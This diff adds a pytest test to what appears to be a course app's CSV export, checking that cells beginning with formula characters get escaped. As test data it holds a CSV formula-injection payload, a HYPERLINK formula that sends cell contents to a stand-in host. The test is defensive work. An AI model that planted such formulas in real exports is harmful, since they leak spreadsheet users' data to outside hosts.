@@ -103,3 +103,27 @@ def test_erasing_removes_backups_that_hold_the_person(tmp_path):
     assert b"Anne Beholdt" in backups[0].read_bytes()
     erase.erase_all(database)
     assert list(safety.backups_dir(path).glob("p-*.db")) == []
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+def test_csv_export_never_starts_a_cell_with_a_formula(demo_content, fresh_db, start):
+    """Module and quiz titles come from packs: a spreadsheet must show them, not run them.
+    (The loader strips a title's leading tab or CR; a stored content version keeps it.)"""
+    from trainer.course.loader import load_library
+
+    formula = f"{start}HYPERLINK(\"http://example.invalid/?\"&A1;\"klikk\")"
+    for name, old in (("module.md", "title: Demomodul"), ("04-quiz.md", 'title: "Quiz: demo"')):
+        path = demo_content / "nb" / "demo" / name
+        path.write_text(path.read_text("utf-8").replace(old, f"title: {json.dumps(formula)}"), "utf-8")
+    library = load_library([demo_content])
+    title = library.module("demo", "nb").title
+    profile = progress.create_profile(fresh_db, "Kari")
+    progress.save_position(fresh_db, profile.id, "demo", "sko")
+    attempt = progress.start_attempt(fresh_db, profile.id, "demo", "quiz-demo", formula)
+    progress.finish_attempt(fresh_db, attempt, 4, 5, 75)
+    rows = list(csv.DictReader(io.StringIO(export.to_csv(fresh_db, profile.id, library, "nb"), newline="")))
+    shown = title if title[0] == "H" else "'" + title
+    assert [(r["record"], r["module_title"], r["item_title"], r["content_version"]) for r in rows] == [
+        ("module", shown, "", ""), ("quiz", shown, shown, "'" + formula)]
+    cells = [cell for row in rows for cell in row.values()]
+    assert not any(cell.startswith(export.FORMULA_STARTS) for cell in cells)
